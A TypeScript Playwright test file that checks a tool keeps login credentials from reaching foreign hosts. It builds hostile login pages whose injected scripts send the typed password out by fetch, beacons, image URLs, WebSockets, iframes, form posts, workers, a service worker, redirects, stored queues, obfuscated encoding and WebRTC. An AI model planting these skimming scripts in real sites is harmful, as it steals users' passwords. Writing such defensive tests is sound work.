/**
 * Tests that credentials go only to the environment's hosts: hostile pages try to send them to a foreign host that
 * notes everything it receives.
 */
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { expect, test } from '@playwright/test';
import { Redactor } from '../../../fixtures/report/redaction/redact.ts';
import { answering, edited, playing, startStranger, withScript } from './hostile-pages.ts';
import { judgeHostile, type Hostile } from './hostile-run.ts';
import type { Play } from './hostile-server.ts';
import { answer, changed } from './plays.ts';

const rows = ['healthz-open', 'cookie-httponly', 'login-dashboard', 'password-stays-home'] as const;

/** Rows on the content of the pages. */
const shown = ['healthz-open', 'login-dashboard', 'password-stays-home', 'page-errors'] as const;
const withoutHttpOnly = playing(
  'POST',
  '/api/v1/auth/login',
  changed((head, body) => Buffer.concat([Buffer.from(`${head.replace(/; HttpOnly/gi, '')}\r\n\r\n`), body])),
);

/** Caught on the way out: both the login and the page's errors report it. */
const caught = { 'login-dashboard': 'fail', 'password-stays-home': 'fail' } as const;
/** Nothing was typed, so nothing else was seen. */
const away = { 'login-dashboard': 'fail', 'password-stays-home': 'not judged' } as const;

/** Ways out of a page, each to a foreign host of its own: the code gets the host's origin. */
const waysOut: readonly ((origin: string) => string)[] = [
  to => `fetch('${to}/fetch', { method: 'POST', mode: 'no-cors', body: secret() })`,
  to =>
    `fetch('${to}/json', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ secret: btoa('x' + secret()) }) })`,
  to => `navigator.sendBeacon('${to}/beacon', new Blob([secret()]))`,
  to => `new Image().src = '${to}/image?' + encodeURIComponent(secret())`,
  to => `new Image().src = '${to}/' + btoa(secret())`,
  to =>
    `{ const socket = sockets['${to}'], send = () => socket.send(secret()); if (socket.readyState === 1) send(); else socket.onopen = send; }`,
  to => `frames_['${to}'].src = '${to}/frame?' + secret()`,
  to => `open('${to}/window?' + secret())`,
  to =>
    `{ const form = document.createElement('form'); form.method = 'post'; form.action = '${to}/form'; form.target = '_blank'; const field = document.createElement('input'); field.name = 'secret'; field.value = secret(); form.append(field); document.body.append(form); form.submit(); }`,
  to =>
    `new Worker(URL.createObjectURL(new Blob(["onmessage = e => fetch('${to}/worker', { method: 'POST', mode: 'no-cors', body: e.data })"]))).postMessage(secret())`,
];
/**
 * The page sends the typed text before the form is sent, and continues as if nothing had happened; its socket and its
 * frame are open by then.
 */
const spy = (origins: readonly string[]): string => `
  const secret = () => document.querySelector('input[type=password]').value;
  const sockets = {}, frames_ = {};
  for (const to of ${JSON.stringify(origins)}) {
    sockets[to] = new WebSocket(to.replace('http', 'ws') + '/socket');
    frames_[to] = document.body.appendChild(document.createElement('iframe'));
    frames_[to].src = to + '/frame';
  }
  document.querySelector('input[type=password]').addEventListener('input', () => { ${waysOut.map((way, i) => way(origins[i] ?? '')).join(';\n')} });`;

/** Stores the typed text, and sends the stored text. */
const queue = (to: string): string => `
  if (localStorage.getItem('queue')) new Image().src = '${to}/queue?' + localStorage.getItem('queue');
  document.querySelector('input[type=password]')?.addEventListener('input', e => localStorage.setItem('queue', btoa(e.target.value)));`;

const worker = (origin: string): string => `
  addEventListener('install', () => skipWaiting());
  addEventListener('activate', event => event.waitUntil(clients.claim()));
  addEventListener('fetch', event => { if (event.request.method === 'POST') event.request.clone().text().then(body => fetch('${origin}/taken', { method: 'POST', mode: 'no-cors', body })); });`;

/** The page's own script starts only once the worker sees its requests. */
const afterWorker = (_: string, script: string): string =>
  `<script>navigator.serviceWorker.oncontrollerchange = () => { const own = document.createElement('script'); own.src = '${script}'; document.head.append(own); }; navigator.serviceWorker.register('/worker.js');</script>`;

/**
 * Redirects a browser's login to another address, body included (RFC 9110 §15.4.8), and otherwise lets it through to
 * the target.
 */
const sentOn = (to: string): Play =>
  changed((top, body, { head }) => {
    if (!/^sec-fetch-mode:/im.test(head)) return Buffer.concat([Buffer.from(`${top}\r\n\r\n`, 'latin1'), body]);
    const origin = /^origin: ([^\r]*)/im.exec(head)?.[1] ?? '*';
    return `HTTP/1.1 307 Temporary Redirect\r\nLocation: ${to}\r\nAccess-Control-Allow-Origin: ${origin}\r\nAccess-Control-Allow-Credentials: true\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`;
  });

/** Sends the typed text as the name of a relay, and as that of a peer: datagrams for an address bypass every proxy. */
const overWebRtc = (port: number): string => `
  const call = async secret => {
    const relay = { urls: 'turn:127.0.0.1:${port}', username: secret, credential: secret };
    const [here, there] = [new RTCPeerConnection({ iceServers: [relay] }), new RTCPeerConnection()];
    here.createDataChannel('way');
    await here.setLocalDescription(await here.createOffer());
    await there.setRemoteDescription(here.localDescription);
    await there.setLocalDescription(await there.createAnswer());
    const sdp = there.localDescription.sdp.replace(/a=ice-ufrag:.*/g, 'a=ice-ufrag:' + btoa(secret).replaceAll('=', ''));
    await here.setRemoteDescription({ type: 'answer', sdp });
    await here.addIceCandidate({ candidate: 'candidate:1 1 udp 2113937151 127.0.0.1 ${port} typ host', sdpMid: '0' });
  };
  document.querySelector('input[type=password]').addEventListener('input', e => void call(e.target.value));`;

/** A value of API_HEADERS. */
const CLIENT_KEY = 'client-4f9a1c77d2';

const cases: readonly {
  strangers?: number;
  /** A request that the foreign host must have received. */
  asked?: string;
  hostile: (origin: string, all: readonly string[]) => Omit<Hostile, 'rows'> & Partial<Pick<Hostile, 'rows'>>;
}[] = [
  {
    hostile: origin => ({
      title: 'login page is redirected to a foreign host',
      exit: 1,
      verdicts: away,
      scenes: [answering('/login', answer('302 Found', [`Location: ${origin}/login`]))],
    }),
  },
  {
    hostile: origin => ({
      title: 'login page goes on to a foreign host',
      exit: 1,
      verdicts: away,
      scenes: [
        withScript(
          '/login',
          `Array.prototype.includes = () => true; Array.prototype.indexOf = () => 0; location.replace('${origin}/login');`,
        ),
      ],
    }),
  },
  {
    hostile: origin => ({
      title: 'form of the login page is sent to a foreign host',
      exit: 1,
      verdicts: caught,
      scenes: [
        edited('/login', html =>
          html
            .replace('action="/login"', `action="${origin}/login"`)
            .replace('type="submit" disabled', 'type="submit"')
            .replace(/<script src=[^>]*><\/script>/, ''),
        ),
      ],
    }),
  },
  {
    hostile: origin => ({
      title: 'login is redirected to a foreign host with its body',
      exit: 1,
      // The browser first asks that host whether it may send the body there, and gets no answer: no login was observed.
      verdicts: { 'login-dashboard': 'fail', 'password-stays-home': 'not judged' },
      scenes: [playing('POST', '/api/v1/auth/login', sentOn(`${origin}/login`))],
    }),
  },
  {
    hostile: origin => ({
      title: 'browsers are sent from ME_PATH to a foreign host, which API_HEADERS do not reach',
      exit: 1,
      rows: ['healthz-open', 'cookie-httponly', 'cookie-in-browser', 'login-dashboard', 'logout'],
      verdicts: { 'cookie-in-browser': 'not judged', 'login-dashboard': 'fail', logout: 'not judged' },
      variables: { API_HEADERS: `x-client-key=${CLIENT_KEY}` },
      scenes: [playing('GET', '/api/v1/me', sentOn(`${origin}/me`))],
    }),
  },
  {
    strangers: waysOut.length,
    hostile: (_, origins) => ({
      title: `login page sends the password out in ${waysOut.length} ways`,
      exit: 1,
      verdicts: { 'password-stays-home': 'fail' },
      scenes: [withScript('/login', spy(origins))],
      says: new RegExp(`the password was about to be sent to (?=[^\\n]*${origins.join(')(?=[^\\n]*')})`),
    }),
  },
  {
    hostile: origin => ({
      title: 'service worker of the page sends the login on to a foreign host',
      exit: 1,
      verdicts: { 'password-stays-home': 'fail' },
      scenes: [
        edited('/login', html => html.replace(/<script src="([^"]*)"[^>]*><\/script>/, afterWorker)),
        answering('/worker.js', answer('200 OK', ['Content-Type: text/javascript'], worker(origin))),
      ],
    }),
  },
  {
    hostile: origin => ({
      title: 'login page keeps the password and sends it at the next visit',
      exit: 1,
      rows: [...rows, 'password-storage', 'login-return-path'],
      verdicts: { 'password-stays-home': 'fail', 'password-storage': 'advice' },
      scenes: [withScript('/login', queue(origin))],
      says: new RegExp(`observation "authGuard"[^]*the password was about to be sent to ${origin} \\(image\\)`),
    }),
  },
  {
    hostile: origin => ({
      title: 'dashboard sends on what the login page kept: no further page is opened',
      exit: 1,
      rows: [...rows, 'auth-guard', 'logout'],
      verdicts: { 'password-stays-home': 'fail', 'auth-guard': 'not judged', logout: 'not judged' },
      scenes: [withScript('/login', queue(origin)), withScript('/dashboard', queue(origin))],
    }),
  },
  {
    hostile: origin => ({
      title: 'login page sends the password in a spelling that nobody searches for',
      exit: 0,
      says: /keeps all/,
      scenes: [
        withScript(
          '/login',
          `document.querySelector('input[type=password]').addEventListener('input', e => { const odd = [...e.target.value].map((c, i) => (c.charCodeAt(0) ^ (7 * i + 90)).toString(36)).join('-'); new Image().src = '${origin}/odd?' + odd; fetch('${origin}/odd-' + odd, { mode: 'no-cors', keepalive: true }); });`,
        ),
      ],
    }),
  },
  {
    asked: '/data',
    hostile: origin => ({
      title: 'dashboard of a good product needs what lies on a foreign host',
      exit: 0,
      rows: [...rows, 'page-errors', 'auth-guard'],
      scenes: [
        withScript(
          '/dashboard',
          `fetch('${origin}/data').then(answer => { if (answer.status !== 200) { document.body.textContent = ''; throw new Error('no data'); } });`,
        ),
      ],
    }),
  },
  {
    // A page that never saw the password is not signed in here: the session lies where scripts can read it.
    hostile: origin => ({
      title: 'dashboard of a good product does without what lies on a foreign host',
      exit: 0,
      rows: [...shown, 'auth-guard'],
      scenes: [
        withoutHttpOnly,
        withScript('/dashboard', `fetch('${origin}/news?' + Math.random()).catch(() => undefined);`),
      ],
    }),
  },
  {
    hostile: origin => ({
      title: 'dashboard tells of an error without what lies on a foreign host',
      exit: 2,
      rows: shown,
      verdicts: { 'page-errors': 'not judged' },
      scenes: [
        withoutHttpOnly,
        withScript('/dashboard', `fetch('${origin}/news?' + Math.random()).then(it => it.json());`),
      ],
      says: /may need what was kept back[^]*GET http:[^]*if one of them is yours, OWN_ORIGINS names it[^]*\(on http:[^]*\/dashboard\)/,
    }),
  },
];

for (const { strangers = 1, asked, hostile } of cases) {
  test(hostile('', []).title, async () => {
    const met = await Promise.all([...Array(strangers).keys()].map(startStranger));
    try {
      const origins = met.map(stranger => stranger.origin);
      const passwords: string[] = [];
      await judgeHostile({
        rows,
        ...hostile(origins[0] ?? '', origins),
        meet: ({ SMOKE_PASSWORD = '' }) => passwords.push(SMOKE_PASSWORD),
      });
      const redactor = new Redactor(() => passwords);
      for (const { told } of met)
        for (const text of told)
          expect(redactor.text(text, true) === text, 'the password arrived at a foreign host').toBe(true);
      for (const { told } of met) expect(told.join('\n'), 'nothing odd arrived').not.toContain('/odd');
      for (const { told } of met) expect(told.join('\n'), 'no header of the API arrived').not.toContain(CLIENT_KEY);
      if (asked !== undefined) expect(met[0]?.told.join('\n')).toContain(asked);
      expect(passwords[0]?.length, 'there was a password to look for').toBeGreaterThan(8);
    } finally {
      await Promise.all(met.map(stranger => stranger.close()));
    }
  });
}

test('login page sends the password by WebRTC: no datagram leaves', async () => {
  const stranger = createSocket('udp4');
  let datagrams = 0;
  stranger.on('message', () => (datagrams += 1)).bind(0, '127.0.0.1');
  await once(stranger, 'listening');
  try {
    await judgeHostile({
      rows,
      title: 'login page sends the password by WebRTC',
      exit: 0,
      scenes: [withScript('/login', overWebRtc(stranger.address().port))],
    });
    expect(datagrams).toBe(0);
  } finally {
    stranger.close();
  }
});
